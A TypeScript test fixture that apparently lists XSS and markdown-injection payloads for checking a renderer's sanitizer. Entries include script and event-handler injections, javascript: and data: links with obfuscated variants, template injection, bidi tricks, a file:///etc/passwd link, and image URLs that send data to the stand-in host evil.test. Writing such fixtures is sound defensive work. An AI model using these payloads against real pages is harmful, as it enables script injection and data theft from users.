/** Runs if anything does. */
const RUN = 'window.pwned=1';
const EVIL = 'http://evil.test';

/** Texts that want to be more than text: scripts, links that run, things that load. */
export const markup: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="${EVIL}/x"></object><embed src="${EVIL}/x">`,
  `<form action="${EVIL}"><button>x</button></form>`,
  `<input autofocus onfocus="${RUN}"><details open ontoggle="${RUN}">`,
  `<style>@import "${EVIL}/x.css"; * { background: url(${EVIL}/x.png) }</style>`,
  `<link rel="stylesheet" href="${EVIL}/x.css"><link rel="prefetch" href="${EVIL}/x">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}"><base href="${EVIL}/">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<video src="${EVIL}/x.mp4" autoplay></video><audio src="${EVIL}/x.mp3"></audio>`,
  `<div style="background:url(${EVIL}/x.png)">x</div>`,
  `[one](javascript:${RUN})`,
  `[two](JaVaScRiPt:${RUN})`,
  `[three](java\tscript:${RUN})`,
  `[four](&#106;avascript:${RUN})`,
  `[five](data:text/html,<script>${RUN}</script>)`,
  `[six](vbscript:x)`,
  `[seven][ref]\n\n[ref]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `[eight](file:///etc/passwd)`,
  `![a](${EVIL}/track.png)`,
  `![b](//evil.test/track.png)`,
  `![c](javascript:${RUN})`,
  `![d](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>)`,
  `![e](/v1/images?url=${encodeURIComponent(`${EVIL}/leak?of=secret`)})`,
  `![f](/files/../v1/images?url=${encodeURIComponent(`${EVIL}/leak`)})`,
  `[![g](${EVIL}/track.png)](javascript:${RUN})`,
  `$\\href{javascript:${RUN}}{x}$ and $\\url{javascript:${RUN}}$`,
  `$\\includegraphics{${EVIL}/x.png}$ and $\\htmlData{onload=${RUN}}{x}$ and $\\def\\x{\\x\\x}\\x$`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A[<img src=x onerror=${RUN}>] --> B; click A "javascript:${RUN}"\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `| a | <img src=x onerror="${RUN}"> |\n| --- | --- |\n| [x](javascript:${RUN}) | ![x](${EVIL}/t.png) |`,
  `text[^1]\n\n[^1]: [x](javascript:${RUN})`,
  `\u202Etxet desrever\u202C \u2066isolated \u200Bzero`,
  '{{constructor.constructor("window.pwned=1")()}} #{window.pwned=1} <%= window.pwned=1 %>',
];

/** A text that has all of it. */
export const allMarkup = markup.join('\n\n');
export const inOneLine = `<img src=x onerror="${RUN}"> [x](javascript:${RUN}) ![x](${EVIL}/t.png) \u202Egnp.exe`;
export { EVIL, RUN };
